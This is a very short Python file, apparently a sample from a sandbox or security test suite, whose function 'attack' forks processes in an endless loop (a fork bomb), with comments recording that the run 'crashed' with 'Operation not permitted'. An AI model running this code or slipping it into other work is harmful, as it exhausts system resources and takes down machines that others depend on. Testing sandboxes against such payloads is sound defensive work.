"""Forks without end."""
# verdict: crashed
# says: Operation not permitted

import os


def attack(node):
    while True:
        os.fork()
